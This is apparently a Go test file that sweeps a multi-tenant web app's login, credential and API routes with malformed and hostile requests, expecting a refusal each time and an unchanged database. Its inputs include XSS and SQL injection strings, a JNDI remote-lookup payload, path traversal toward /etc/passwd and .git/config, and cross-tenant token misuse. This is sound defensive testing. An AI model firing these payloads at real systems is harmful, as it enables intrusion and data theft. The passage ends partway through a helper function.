package web_test

import (
	"context"
	"crypto/rand"
	"database/sql"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"sort"
	"strings"
	"testing"
	"time"

	"esp/lifecycle"
	"esp/store"
	"esp/web/internal/webtest"
)

// sweepFixture is the world the bad-input sweep runs in: acme (public API
// on) with an activated credential, a token and a plan; initech, a second
// tenant with the public API on, with the same; globex (public API off).
type sweepFixture struct {
	env                   *webtest.Env
	clients               map[string]*webtest.Client // signed in: alice, alice2 (a second session), bob, gina, ivan
	acmeToken, ivanToken  string
	expiredToken          string
	acmeKeys, initechKeys lifecycle.NewKeys
	acmePlan, initechPlan string // plan ids
	initechCursor         string // a real cursor of initech's plan
	acmeCursor            string
	loginToken            string       // a login form's CSRF token (of another visitor)
	foreignSession        *http.Cookie // alice's session id sealed with keys that are not the server's
}

func newSweepFixture(t *testing.T) *sweepFixture {
	t.Helper()
	env := webtest.NewEnv(t)
	ctx := context.Background()
	initech, err := env.Accounts.AddTenant(ctx, "initech")
	if err != nil {
		t.Fatal(err)
	}
	if err := env.Accounts.SetPublicAPI(ctx, "initech", true); err != nil {
		t.Fatal(err)
	}
	if _, err := env.Accounts.AddUser(ctx, "initech", "ivan", "password-ivan", true); err != nil {
		t.Fatal(err)
	}
	fx := &sweepFixture{env: env, clients: map[string]*webtest.Client{}}
	fx.acmeKeys = webtest.ActivatedKeys(t, env, env.Acme.ID)
	fx.initechKeys = webtest.ActivatedKeys(t, env, initech.ID)
	fx.acmeToken = webtest.Exchange(t, env, fx.acmeKeys)
	fx.ivanToken = webtest.Exchange(t, env, fx.initechKeys)
	fx.acmePlan = webtest.Itoa(webtest.ImportCSV(t, env, env.Acme.ID, "acme plan", webtest.PlanCSV(5)).ID)
	initechPlan := webtest.ImportCSV(t, env, initech.ID, "initech plan", webtest.PlanCSV(5))
	fx.initechPlan = webtest.Itoa(initechPlan.ID)
	fx.initechCursor = webtest.CursorAfterFirstRow(t, env, fx.ivanToken, initechPlan.ID)
	fx.acmeCursor = webtest.CursorAfterFirstRow(t, env, fx.acmeToken, mustInt(t, fx.acmePlan))

	// A token that expired an hour ago, signed as the exchange signs one.
	twoHoursAgo := func() time.Time { return env.Clock.Now().Add(-2 * time.Hour) }
	expired, err := lifecycle.NewTokens(env.Store, twoHoursAgo, time.Hour).Exchange(ctx, fx.acmeKeys.AccessKey, fx.acmeKeys.SecretKey, lifecycle.Caller{})
	if err != nil {
		t.Fatal(err)
	}
	fx.expiredToken = expired.Token

	for _, u := range []string{"alice", "bob", "gina", "ivan"} {
		fx.clients[u] = webtest.SignedIn(t, env, u)
	}
	fx.clients["alice2"] = webtest.SignedIn(t, env, "alice")
	fx.loginToken = webtest.NewClient(env).CSRF(t, "/login")
	hash, block := make([]byte, 64), make([]byte, 32)
	rand.Read(hash)
	rand.Read(block)
	fx.foreignSession = webtest.SealSessionID(t, webtest.SessionID(t, env, fx.clients["alice"].Cookies["esp_session"]), hash, block)
	return fx
}

func mustInt(tb testing.TB, s string) int64 {
	tb.Helper()
	var n int64
	if _, err := fmt.Sscan(s, &n); err != nil {
		tb.Fatal(err)
	}
	return n
}

// sweepReq is one malformed request and the answer it must get.
type sweepReq struct {
	name   string
	as     string // "" for an anonymous visitor, else a signed-in client of the fixture
	method string
	path   string
	body   string
	ctype  string
	form   url.Values // sent as an HTML form when set (body and ctype ignored)
	csrf   string     // added to form: "own" (the session's), "login" (a fresh login form's), "alice2", "gina", "loginOther"
	hdr    []string   // header name, value pairs
	want   int
	shape  string // "api": the JSON error envelope; "oauth": an RFC 6749 error; "": anything not 5xx
	code   string // the envelope's or OAuth error's code, when shape is set
}

const (
	formType = "application/x-www-form-urlencoded"
	jsonType = "application/json"
	xss      = `<script>alert(1)</script>`
	sqli     = `' OR 1=1 --`
	tmpl     = `{{.}}{{template "x"}}`
	jndi     = `${jndi:ldap://203.0.113.1/a}`
)

func sweepTable(fx *sweepFixture) []sweepReq {
	acme, initech := fx.acmePlan, fx.initechPlan
	ak, sk := fx.acmeKeys.AccessKey, fx.acmeKeys.SecretKey
	keyBody := func(a, s string) string {
		b, _ := json.Marshal(map[string]string{"accessKeyId": a, "accessKeySecret": s})
		return string(b)
	}
	basic := func(id, secret string) string {
		return "Basic " + base64.StdEncoding.EncodeToString([]byte(id+":"+secret))
	}
	bearer := func(tok string) []string { return []string{"Authorization", "Bearer " + tok} }
	acmeTok := bearer(fx.acmeToken)
	ivanTok := bearer(fx.ivanToken)
	big := strings.Repeat("x", 70<<10)
	longHeader := strings.Repeat("A", 60<<10)
	login := func(username, password string) url.Values {
		return url.Values{"username": {username}, "password": {password}}
	}
	anotherKeySession := fx.foreignSession

	return []sweepReq{
		// GET /login
		{name: "login page with injection in the query", method: "GET", path: "/login?next=" + url.QueryEscape(xss), want: 200},
		{name: "login page with a garbage session cookie", method: "GET", path: "/login", hdr: []string{"Cookie", "esp_session=garbage; esp_login=%%%"}, want: 200},
		{name: "login page with a session cookie sealed by another key", method: "GET", path: "/login", hdr: []string{"Cookie", anotherKeySession.String()}, want: 200},
		{name: "login page when signed in", as: "alice", method: "GET", path: "/login", want: 303},
		{name: "login page with a 60 KiB header", method: "GET", path: "/login", hdr: []string{"X-Padding", longHeader}, want: 200},
		{name: "login page with an 8 KiB query", method: "GET", path: "/login?q=" + strings.Repeat("a", 8<<10), want: 200},
		{name: "login with PROPFIND", method: "PROPFIND", path: "/login", want: 405},
		{name: "login with TRACE", method: "TRACE", path: "/login", want: 405},

		// POST /login
		{name: "login without a CSRF token", method: "POST", path: "/login", form: login("alice", "password-alice"), want: 403},
		{name: "login with another visitor's CSRF token", method: "POST", path: "/login", form: login("alice", "password-alice"), csrf: "loginOther", want: 403},
		{name: "login with the CSRF token only in the URL", method: "POST", path: "/login?_csrf=" + url.QueryEscape(fx.loginToken), form: login("alice", "password-alice"), want: 403},
		{name: "login with SQL injection", method: "POST", path: "/login", form: login(sqli, sqli), csrf: "login", want: 401},
		{name: "login with SQL injection in the password of a real user", method: "POST", path: "/login", form: login("alice", `' OR '1'='1`), csrf: "login", want: 401},
		{name: "login with a script as username", method: "POST", path: "/login", form: login(xss, "x"), csrf: "login", want: 401},
		{name: "login with template and JNDI strings", method: "POST", path: "/login", form: login(tmpl, jndi), csrf: "login", want: 401},
		{name: "login with invalid UTF-8", method: "POST", path: "/login", form: login("alice\xff\xfe", "password-alice\xc0"), csrf: "login", want: 401},
		{name: "login with a NUL in the username", method: "POST", path: "/login", form: login("alice\x00", "password-alice"), csrf: "login", want: 401},
		{name: "login with the password doubled, wrong first", method: "POST", path: "/login", form: url.Values{"username": {"alice"}, "password": {"wrong", "password-alice"}}, csrf: "login", want: 401},
		{name: "login with the username missing", method: "POST", path: "/login", form: url.Values{"password": {"password-alice"}}, csrf: "login", want: 401},
		{name: "login with a 10 KB username", method: "POST", path: "/login", form: login(strings.Repeat("a", 10_000), "x"), csrf: "login", want: 401},
		{name: "login with a 70 KiB password", method: "POST", path: "/login", form: login("alice", big), csrf: "login", want: 413},
		{name: "login as JSON", method: "POST", path: "/login", ctype: jsonType, body: `{"username":"alice","password":"password-alice","_csrf":"` + fx.loginToken + `"}`, want: 403},
		{name: "login as text/plain", method: "POST", path: "/login", ctype: "text/plain", body: "username=alice&password=password-alice", want: 403},
		{name: "login with a malformed form encoding", method: "POST", path: "/login", ctype: formType, body: "username=%zz&password=%", want: 403},
		{name: "login with an empty body", method: "POST", path: "/login", ctype: formType, want: 403},
		{name: "login with a garbage login cookie", method: "POST", path: "/login", form: login("alice", "password-alice"), hdr: []string{"Cookie", "esp_login=garbage"}, want: 403},
		{name: "login without CSRF while signed in", as: "alice", method: "POST", path: "/login", form: login("bob", "password-bob"), want: 403},

		// POST /logout
		{name: "logout anonymously", method: "POST", path: "/logout", want: 303},
		{name: "logout without a CSRF token", as: "alice", method: "POST", path: "/logout", form: url.Values{}, want: 403},
		{name: "logout with another user's CSRF token", as: "alice", method: "POST", path: "/logout", form: url.Values{}, csrf: "gina", want: 403},
		{name: "logout with a garbage session cookie", method: "POST", path: "/logout", hdr: []string{"Cookie", "esp_session=" + strings.Repeat("Zm9v", 100)}, want: 303},
		{name: "logout with GET", as: "alice", method: "GET", path: "/logout", want: 405},

		// GET /
		{name: "home anonymously", method: "GET", path: "/", want: 303},
		{name: "home with a session cookie sealed by another key", method: "GET", path: "/", hdr: []string{"Cookie", anotherKeySession.String()}, want: 303},
		{name: "home with injection in the query", as: "alice", method: "GET", path: "/?q=" + url.QueryEscape(xss+sqli), want: 200},
		{name: "home with a 32 KiB junk cookie", as: "alice", method: "GET", path: "/", hdr: []string{"Cookie", "junk=" + strings.Repeat("j", 32<<10)}, want: 200},
		{name: "home with PROPFIND", as: "alice", method: "PROPFIND", path: "/", want: 405},
		{name: "home with DELETE", method: "DELETE", path: "/", want: 405},
		{name: "home with a 16 KiB path", method: "GET", path: "/" + strings.Repeat("a", 16<<10), want: 404},
		{name: "a path climbing out of the root", method: "GET", path: "/%2e%2e/%2e%2e/go.mod", want: 404},
		{name: "a hidden file", method: "GET", path: "/.git/config", want: 404},

		// The API Credentials window.
		{name: "window anonymously", method: "GET", path: "/api-credentials", want: 303},
		{name: "window as a non-admin", as: "bob", method: "GET", path: "/api-credentials", want: 404},
		{name: "window as an admin of a tenant without the API", as: "gina", method: "GET", path: "/api-credentials", want: 404},
		{name: "window with PATCH", as: "alice", method: "PATCH", path: "/api-credentials", want: 405},
		{name: "window with injection in the query", as: "alice", method: "GET", path: "/api-credentials?tenant=" + url.QueryEscape(sqli), want: 200},
		{name: "generate anonymously", method: "POST", path: "/api-credentials/generate", form: url.Values{}, want: 303},
		{name: "generate without a CSRF token", as: "alice", method: "POST", path: "/api-credentials/generate", form: url.Values{}, want: 403},
		{name: "generate with the CSRF token only in the URL", as: "alice", method: "POST", path: "/api-credentials/generate?_csrf=" + url.QueryEscape("x"), form: url.Values{}, want: 403},
		{name: "generate with another session's CSRF token", as: "alice", method: "POST", path: "/api-credentials/generate", form: url.Values{}, csrf: "alice2", want: 403},
		{name: "generate with the other tenant's admin's CSRF token", as: "alice", method: "POST", path: "/api-credentials/generate", form: url.Values{}, csrf: "gina", want: 403},
		{name: "generate with a login form's CSRF token", as: "alice", method: "POST", path: "/api-credentials/generate", form: url.Values{}, csrf: "loginOther", want: 403},
		{name: "generate with the CSRF token doubled, garbage first", as: "alice", method: "POST", path: "/api-credentials/generate", form: url.Values{"_csrf": {"garbage"}}, csrf: "own", want: 403},
		{name: "generate with an invalid UTF-8 CSRF token", as: "alice", method: "POST", path: "/api-credentials/generate", form: url.Values{"_csrf": {"\xff\xfe\xfd"}}, want: 403},
		{name: "generate with a JSON body", as: "alice", method: "POST", path: "/api-credentials/generate", ctype: jsonType, body: `{"_csrf":"x"}`, want: 403},
		{name: "generate with a 70 KiB form", as: "alice", method: "POST", path: "/api-credentials/generate", form: url.Values{"pad": {big}}, csrf: "own", want: 413},
		{name: "generate as a non-admin with a valid token", as: "bob", method: "POST", path: "/api-credentials/generate", form: url.Values{}, csrf: "own", want: 404},
		{name: "generate as the admin of a tenant without the API", as: "gina", method: "POST", path: "/api-credentials/generate", form: url.Values{}, csrf: "own", want: 404},
		{name: "generate as the other tenant's admin without CSRF", as: "ivan", method: "POST", path: "/api-credentials/generate", form: url.Values{}, want: 403},
		{name: "deactivate anonymously", method: "POST", path: "/api-credentials/deactivate", form: url.Values{}, want: 303},
		{name: "deactivate without a CSRF token", as: "alice", method: "POST", path: "/api-credentials/deactivate", form: url.Values{"tenant": {"initech"}}, want: 403},
		{name: "deactivate with the other tenant's admin's CSRF token", as: "ivan", method: "POST", path: "/api-credentials/deactivate", form: url.Values{}, csrf: "alice2", want: 403},
		{name: "deactivate as a non-admin with a valid token", as: "bob", method: "POST", path: "/api-credentials/deactivate", form: url.Values{}, csrf: "own", want: 404},
		{name: "deactivate as the admin of a tenant without the API", as: "gina", method: "POST", path: "/api-credentials/deactivate", form: url.Values{}, csrf: "own", want: 404},
		{name: "live status anonymously", method: "GET", path: "/api-credentials/status", want: 401},
		{name: "live status as a non-admin", as: "bob", method: "GET", path: "/api-credentials/status", want: 404},
		{name: "live status with a bearer token instead of a session", method: "GET", path: "/api-credentials/status", hdr: acmeTok, want: 401},

		// Static files.
		{name: "static: dot-dot", method: "GET", path: "/static/../go.mod", want: 404},
		{name: "static: encoded dot-dot", method: "GET", path: "/static/%2e%2e/go.mod", want: 404},
		{name: "static: encoded slash", method: "GET", path: "/static/..%2f..%2fgo.mod", want: 404},
		{name: "static: backslash", method: "GET", path: "/static/..%5c..%5cgo.mod", want: 404},
		{name: "static: NUL", method: "GET", path: "/static/app.css%00.js", want: 404},
		{name: "static: absolute path", method: "GET", path: "/static//etc/passwd", want: 404},
		{name: "static: directory listing", method: "GET", path: "/static/", want: 404},
		{name: "static: another case", method: "GET", path: "/static/APP.CSS", want: 404},
		{name: "static: POST", method: "POST", path: "/static/app.css", ctype: formType, body: "a=b", want: 405},
		{name: "static: a long If-None-Match", method: "GET", path: "/static/app.css", hdr: []string{"If-None-Match", strings.Repeat(`"x",`, 8<<10)}, want: 200},

		// Health.
		{name: "health with PROPFIND", method: "PROPFIND", path: "/healthz", want: 405},
		{name: "health with a 70 KiB body", method: "POST", path: "/healthz", ctype: formType, body: big, want: 413},
		{name: "health with injection in the query", method: "GET", path: "/healthz?x=" + url.QueryEscape(jndi), want: 200},

		// POST /api/v1/token/access-key
		{name: "key exchange as text/plain", method: "POST", path: "/api/v1/token/access-key", ctype: "text/plain", body: keyBody(ak, sk), want: 415, shape: "api", code: "unsupported_media_type"},
		{name: "key exchange with invalid UTF-8 in JSON", method: "POST", path: "/api/v1/token/access-key", ctype: jsonType, body: "{\"accessKeyId\":\"\xff" + ak + "\",\"accessKeySecret\":\"" + sk + "\xfe\"}", want: 401, shape: "api", code: "invalid_credentials"},
		{name: "key exchange with a field doubled", method: "POST", path: "/api/v1/token/access-key", ctype: jsonType, body: `{"accessKeyId":"x","accessKeyId":"` + ak + `","accessKeySecret":"` + sk + `"}`, want: 400, shape: "api", code: "bad_request"},
		{name: "key exchange with the secret missing", method: "POST", path: "/api/v1/token/access-key", ctype: jsonType, body: `{"accessKeyId":"` + ak + `"}`, want: 400, shape: "api", code: "bad_request"},
		{name: "key exchange with SQL injection", method: "POST", path: "/api/v1/token/access-key", ctype: jsonType, body: keyBody(sqli, sqli), want: 401, shape: "api", code: "invalid_credentials"},
		{name: "key exchange with template and JNDI strings", method: "POST", path: "/api/v1/token/access-key", ctype: jsonType, body: keyBody(tmpl, jndi), want: 401, shape: "api", code: "invalid_credentials"},
		{name: "key exchange with real-looking unknown keys", method: "POST", path: "/api/v1/token/access-key", ctype: jsonType, body: keyBody(lifecycle.NewAccessKey(), lifecycle.NewSecretKey()), want: 401, shape: "api", code: "invalid_credentials"},
		{name: "key exchange with acme's key and initech's secret", method: "POST", path: "/api/v1/token/access-key", ctype: jsonType, body: keyBody(ak, fx.initechKeys.SecretKey), want: 401, shape: "api", code: "invalid_credentials"},
		{name: "key exchange with deeply nested JSON", method: "POST", path: "/api/v1/token/access-key", ctype: jsonType, body: `{"accessKeyId":` + strings.Repeat("[", 10000) + strings.Repeat("]", 10000) + `}`, want: 400, shape: "api", code: "bad_request"},
		{name: "key exchange with a 70 KiB body", method: "POST", path: "/api/v1/token/access-key", ctype: jsonType, body: keyBody(big, sk), want: 413, shape: "api", code: "payload_too_large"},
		{name: "key exchange with GET", method: "GET", path: "/api/v1/token/access-key", want: 405, shape: "api", code: "method_not_allowed"},
		{name: "key exchange with a session cookie and no keys", as: "alice", method: "POST", path: "/api/v1/token/access-key", ctype: jsonType, body: `{}`, want: 400, shape: "api", code: "bad_request"},

		// POST /api/v1/oauth/token
		{name: "OAuth as JSON", method: "POST", path: "/api/v1/oauth/token", ctype: jsonType, body: `{"grant_type":"client_credentials"}`, want: 415, shape: "oauth", code: "invalid_request"},
		{name: "OAuth with the password grant", method: "POST", path: "/api/v1/oauth/token", form: url.Values{"grant_type": {"password"}, "username": {"alice"}, "password": {"password-alice"}}, want: 400, shape: "oauth", code: "unsupported_grant_type"},
		{name: "OAuth with grant_type doubled", method: "POST", path: "/api/v1/oauth/token", form: url.Values{"grant_type": {"client_credentials", "client_credentials"}, "client_id": {ak}, "client_secret": {sk}}, want: 400, shape: "oauth", code: "invalid_request"},
		{name: "OAuth without grant_type", method: "POST", path: "/api/v1/oauth/token", form: url.Values{"client_id": {ak}, "client_secret": {sk}}, want: 400, shape: "oauth", code: "invalid_request"},
		{name: "OAuth with garbage Basic credentials", method: "POST", path: "/api/v1/oauth/token", form: url.Values{"grant_type": {"client_credentials"}}, hdr: []string{"Authorization", "Basic %%%not-base64"}, want: 401, shape: "oauth", code: "invalid_client"},
		{name: "OAuth with Basic and a form secret", method: "POST", path: "/api/v1/oauth/token", form: url.Values{"grant_type": {"client_credentials"}, "client_secret": {sk}}, hdr: []string{"Authorization", basic(ak, sk)}, want: 400, shape: "oauth", code: "invalid_request"},
		{name: "OAuth with Basic and another client_id in the form", method: "POST", path: "/api/v1/oauth/token", form: url.Values{"grant_type": {"client_credentials"}, "client_id": {lifecycle.NewAccessKey()}}, hdr: []string{"Authorization", basic(ak, sk)}, want: 400, shape: "oauth", code: "invalid_request"},
		{name: "OAuth with invalid UTF-8 and injection in Basic", method: "POST", path: "/api/v1/oauth/token", form: url.Values{"grant_type": {"client_credentials"}}, hdr: []string{"Authorization", basic("\xff"+sqli, jndi)}, want: 401, shape: "oauth", code: "invalid_client"},
		{name: "OAuth with initech's secret for acme's key", method: "POST", path: "/api/v1/oauth/token", form: url.Values{"grant_type": {"client_credentials"}, "client_id": {ak}, "client_secret": {fx.initechKeys.SecretKey}}, want: 401, shape: "oauth", code: "invalid_client"},
		{name: "OAuth with a 70 KiB form", method: "POST", path: "/api/v1/oauth/token", form: url.Values{"grant_type": {"client_credentials"}, "pad": {big}}, want: 413, shape: "oauth", code: "invalid_request"},

		// GET /api/v1/plans and a plan
		{name: "plans without a token", method: "GET", path: "/api/v1/plans", want: 401, shape: "api", code: "unauthorized"},
		{name: "plans with a script as the token", method: "GET", path: "/api/v1/plans", hdr: bearer(xss), want: 401, shape: "api", code: "invalid_token"},
		{name: "plans with an unknown well-formed token", method: "GET", path: "/api/v1/plans", hdr: bearer("esptk_" + strings.Repeat("A", 43)), want: 401, shape: "api", code: "invalid_token"},
		{name: "plans with an expired token", method: "GET", path: "/api/v1/plans", hdr: bearer(fx.expiredToken), want: 401, shape: "api", code: "invalid_token"},
		{name: "plans with the token under Basic", method: "GET", path: "/api/v1/plans", hdr: []string{"Authorization", "Basic " + fx.acmeToken}, want: 401, shape: "api", code: "invalid_request"},
		{name: "plans with two Authorization headers", method: "GET", path: "/api/v1/plans", hdr: append(bearer(fx.acmeToken), bearer(fx.ivanToken)...), want: 401, shape: "api", code: "invalid_request"},
		{name: "plans with a 60 KiB Authorization header", method: "GET", path: "/api/v1/plans", hdr: bearer(longHeader), want: 401, shape: "api", code: "invalid_token"},
		{name: "plans with a session cookie but no token", as: "alice", method: "GET", path: "/api/v1/plans", want: 401, shape: "api", code: "unauthorized"},
		{name: "plans with DELETE", method: "DELETE", path: "/api/v1/plans", hdr: acmeTok, want: 405, shape: "api", code: "method_not_allowed"},
		{name: "plans with TRACE", method: "TRACE", path: "/api/v1/plans", want: 405, shape: "api", code: "method_not_allowed"},
		{name: "plans with a 70 KiB body", method: "GET", path: "/api/v1/plans", ctype: jsonType, body: big, hdr: acmeTok, want: 413, shape: "api", code: "payload_too_large"},
		{name: "another tenant's plan", method: "GET", path: "/api/v1/plans/" + initech, hdr: acmeTok, want: 404, shape: "api", code: "not_found"},
		{name: "another tenant's plan, the other way", method: "GET", path: "/api/v1/plans/" + acme, hdr: ivanTok, want: 404, shape: "api", code: "not_found"},
		{name: "plan id negative", method: "GET", path: "/api/v1/plans/-1", hdr: acmeTok, want: 404, shape: "api", code: "not_found"},
		{name: "plan id zero", method: "GET", path: "/api/v1/plans/0", hdr: acmeTok, want: 404, shape: "api", code: "not_found"},
		{name: "plan id beyond int64", method: "GET", path: "/api/v1/plans/99999999999999999999999", hdr: acmeTok, want: 404, shape: "api", code: "not_found"},
		{name: "plan id with a leading zero", method: "GET", path: "/api/v1/plans/0" + acme, hdr: acmeTok, want: 404, shape: "api", code: "not_found"},
		{name: "plan id as SQL injection", method: "GET", path: "/api/v1/plans/" + url.PathEscape(acme+" OR 1=1 --"), hdr: acmeTok, want: 404, shape: "api", code: "not_found"},
		{name: "plan with PATCH", method: "PATCH", path: "/api/v1/plans/" + acme, hdr: acmeTok, ctype: jsonType, body: `{"name":"x"}`, want: 405, shape: "api", code: "method_not_allowed"},
		{name: "plan path climbing out", method: "GET", path: "/api/v1/plans/%2e%2e%2f%2e%2e%2fopenapi.json", hdr: acmeTok, want: 404, shape: "api", code: "not_found"},

		// GET /api/v1/plans/{id}/data
		{name: "data with a negative limit", method: "GET", path: "/api/v1/plans/" + acme + "/data?limit=-1", hdr: acmeTok, want: 400, shape: "api", code: "bad_limit"},
		{name: "data with limit zero", method: "GET", path: "/api/v1/plans/" + acme + "/data?limit=0", hdr: acmeTok, want: 400, shape: "api", code: "bad_limit"},
		{name: "data with a huge limit", method: "GET", path: "/api/v1/plans/" + acme + "/data?limit=99999999999999999999", hdr: acmeTok, want: 400, shape: "api", code: "bad_limit"},
		{name: "data with a non-numeric limit", method: "GET", path: "/api/v1/plans/" + acme + "/data?limit=" + url.QueryEscape(sqli), hdr: acmeTok, want: 400, shape: "api", code: "bad_limit"},
		{name: "data with limit doubled", method: "GET", path: "/api/v1/plans/" + acme + "/data?limit=1&limit=2", hdr: acmeTok, want: 400, shape: "api", code: "bad_request"},
		{name: "data with a garbage cursor", method: "GET", path: "/api/v1/plans/" + acme + "/data?cursor=" + url.QueryEscape(tmpl), hdr: acmeTok, want: 400, shape: "api", code: "bad_cursor"},
		{name: "data with another tenant's cursor", method: "GET", path: "/api/v1/plans/" + acme + "/data?cursor=" + fx.initechCursor, hdr: acmeTok, want: 400, shape: "api", code: "bad_cursor"},
		{name: "data with a negative-looking cursor", method: "GET", path: "/api/v1/plans/" + acme + "/data?cursor=-1", hdr: acmeTok, want: 400, shape: "api", code: "bad_cursor"},
		{name: "data with a huge cursor", method: "GET", path: "/api/v1/plans/" + acme + "/data?cursor=" + strings.Repeat("A", 4096), hdr: acmeTok, want: 400, shape: "api", code: "bad_cursor"},
		{name: "data with a cursor of spaces", method: "GET", path: "/api/v1/plans/" + acme + "/data?cursor=%20%20", hdr: acmeTok, want: 400, shape: "api", code: "bad_cursor"},
		{name: "data with an invalid UTF-8 cursor", method: "GET", path: "/api/v1/plans/" + acme + "/data?cursor=%ff%fe", hdr: acmeTok, want: 400, shape: "api", code: "bad_cursor"},
		{name: "data with a malformed query", method: "GET", path: "/api/v1/plans/" + acme + "/data?limit=%zz", hdr: acmeTok, want: 400, shape: "api", code: "bad_request"},
		{name: "data of another tenant's plan with its own cursor", method: "GET", path: "/api/v1/plans/" + initech + "/data?cursor=" + fx.acmeCursor, hdr: acmeTok, want: 404, shape: "api", code: "not_found"},
		{name: "data with an expired token", method: "GET", path: "/api/v1/plans/" + acme + "/data", hdr: bearer(fx.expiredToken), want: 401, shape: "api", code: "invalid_token"},

		// GET /api/v1/plans/{id}/export
		{name: "export in an unknown format", method: "GET", path: "/api/v1/plans/" + acme + "/export?format=xml", hdr: acmeTok, want: 400, shape: "api", code: "bad_format"},
		{name: "export with format doubled", method: "GET", path: "/api/v1/plans/" + acme + "/export?format=csv&format=ndjson", hdr: acmeTok, want: 400, shape: "api", code: "bad_request"},
		{name: "export of another tenant's plan", method: "GET", path: "/api/v1/plans/" + initech + "/export", hdr: acmeTok, want: 404, shape: "api", code: "not_found"},
		{name: "export without a token", method: "GET", path: "/api/v1/plans/" + acme + "/export", want: 401, shape: "api", code: "unauthorized"},
		{name: "export with a garbage Accept header", method: "GET", path: "/api/v1/plans/" + acme + "/export", hdr: append([]string{"Accept", ";;;" + xss + strings.Repeat(",", 4096)}, acmeTok...), want: 200},
		{name: "export with PROPFIND", method: "PROPFIND", path: "/api/v1/plans/" + acme + "/export", hdr: acmeTok, want: 405, shape: "api", code: "method_not_allowed"},

		// OpenAPI and unknown API paths.
		{name: "OpenAPI with DELETE", method: "DELETE", path: "/api/v1/openapi.json", want: 405, shape: "api", code: "method_not_allowed"},
		{name: "OpenAPI with a 70 KiB body", method: "GET", path: "/api/v1/openapi.json", ctype: jsonType, body: big, want: 413, shape: "api", code: "payload_too_large"},
		{name: "an unknown API version", method: "GET", path: "/api/v2/plans", hdr: acmeTok, want: 404, shape: "api", code: "not_found"},
		{name: "an API path climbing out", method: "GET", path: "/api/v1/../../go.mod", want: 404, shape: "api", code: "not_found"},
	}
}

// TestBadInputSweep sends every route malformed, hostile or unauthorised
// requests: each gets its expected status (never a 5xx), the API answers
// in its error shape, no script is reflected, and the database is exactly
// as it was before.
func TestBadInputSweep(t *testing.T) {
	fx := newSweepFixture(t)
	env := fx.env
	table := sweepTable(fx)
	if len(table) < 60 {
		t.Fatalf("only %d requests in the sweep", len(table))
	}
	before := snapshotDB(t, env.Store)
	sent, pageLoads := 0, 0
	for i, tt := range table {
		var c *webtest.Client
		if tt.as == "" {
			c = webtest.NewClient(env)
		} else if c = fx.clients[tt.as]; c == nil {
			t.Fatalf("%s: no client %q", tt.name, tt.as)
		}
		form := tt.form
		if tt.csrf != "" {
			pageLoads++
			form = cloneValues(form)
			switch tt.csrf {
			case "own":
				form.Add("_csrf", c.CSRF(t, "/"))
			case "login":
				form.Add("_csrf", c.CSRF(t, "/login"))
			case "loginOther":
				form.Add("_csrf", fx.loginToken)
			default: // another signed-in client's session token
				form.Add("_csrf", fx.clients[tt.csrf].CSRF(t, "/"))
			}
		}
		body, ctype := tt.body, tt.ctype
		if form != nil {
			body, ctype = form.Encode(), formType
		}
		req := httptest.NewRequest(tt.method, "/", strings.NewReader(body))
		// Set the target by hand: httptest.NewRequest would refuse some of
		// the paths the sweep must send as they are.
		req.URL = mustParseTarget(t, tt.path)
		req.RequestURI = tt.path
		if ctype != "" {
			req.Header.Set("Content-Type", ctype)
		}
		for j := 0; j+1 < len(tt.hdr); j += 2 {
			req.Header.Add(tt.hdr[j], tt.hdr[j+1])
		}
		// Each request from its own address: the failure limits are
		// tested elsewhere and would otherwise decide some answers here.
		c.Addr = fmt.Sprintf("10.%d.%d.%d:4000", i/65536, i/256%256, i%256)
		if carriesLiveToken(tt, fx) {
			// A live token's use is recorded per address: sent from where
			// the fixture used it, it records nothing new. It is no failed
			// authentication, so the limit does not come into it.
			c.Addr = fixtureAddr
		}
		rec := c.Send(req)
		sent++
		checkSweepAnswer(t, tt, rec)
	}
	after := snapshotDB(t, env.Store)
	if before != after {
		t.Errorf("the sweep changed the database:\n%s", firstDifference(before, after))
	}
	// The refused logouts did not end alice's session.
	webtest.WantStatus(t, fx.clients["alice"].Get("/api-credentials"), http.StatusOK)
	t.Logf("bad-input sweep: %d requests (and %d page loads for CSRF tokens)", sent, pageLoads)
}

func checkSweepAnswer(t *testing.T, tt sweepReq, rec *httptest.ResponseRecorder) {
	t.Helper()
	if rec.Code >= 500 {
		t.Errorf("%s: %s %.80s answered %d: %.300s", tt.name, tt.method, tt.path, rec.Code, rec.Body)
		return
	}
	if rec.Code != tt.want {
		t.Errorf("%s: %s %.80s answered %d, want %d: %.300s", tt.name, tt.method, tt.path, rec.Code, tt.want, rec.Body)
		return
	}
	if strings.Contains(rec.Body.String(), xss) {
		t.Errorf("%s: the answer reflects the script unescaped", tt.name)
	}
	switch tt.shape {
	case "api":
		var body struct {
			Error *struct{ Code, Message string } `json:"error"`
		}
		if !strings.HasPrefix(rec.Header().Get("Content-Type"), "application/json") ||
			json.Unmarshal(rec.Body.Bytes(), &body) != nil || body.Error == nil || body.Error.Message == "" {
			t.Errorf("%s: not the JSON error envelope: %q %.300s", tt.name, rec.Header().Get("Content-Type"), rec.Body)
		} else if body.Error.Code != tt.code {
			t.Errorf("%s: error code %q, want %q", tt.name, body.Error.Code, tt.code)
		}
		if rec.Code == http.StatusUnauthorized && rec.Header().Get("WWW-Authenticate") == "" {
			t.Errorf("%s: 401 without WWW-Authenticate", tt.name)
		}
	case "oauth":
		var body struct {
			Error       string `json:"error"`
			Description string `json:"error_description"`
		}
		if json.Unmarshal(rec.Body.Bytes(), &body) != nil || body.Description == "" {
			t.Errorf("%s: not an OAuth error: %.300s", tt.name, rec.Body)
		} else if body.Error != tt.code {
			t.Errorf("%s: OAuth error %q, want %q", tt.name, body.Error, tt.code)
		}
	}
}

func cloneValues(v url.Values) url.Values {
	out := url.Values{}
	for k, vs := range v {
		out[k] = append([]string(nil), vs...)
	}
	return out
}

func mustParseTarget(tb testing.TB, target string) *url.URL {
	tb.Helper()
	u, err := url.ParseRequestURI(target)
	if err != nil {
		tb.Fatalf("target %.80q: %v", target, err)
	}
	return u
}

// fixtureAddr is the address the fixture's clients and exchanges came from.
const fixtureAddr = "192.0.2.1:1234"

// carriesLiveToken reports whether tt sends one of the fixture's live tokens.
func carriesLiveToken(tt sweepReq, fx *sweepFixture) bool {
	for _, h := range tt.hdr {
		if strings.Contains(h, fx.acmeToken) || strings.Contains(h, fx.ivanToken) {
			return true
		}
	}
	return false
}

// snapshotDB renders every row of every table as text, tables and rows in a
// fixed order. No column is left out: the fake clock stands still during
// the sweep, so even the columns that record use (sessions.last_seen_at,
// credentials.last_used_at) must not move, and the failure limits live in
// memory, not in the database.
func snapshotDB(tb testing.TB, st *store.Store) string {
	tb.Helper()
	ctx := context.Background()
	db := st.DB
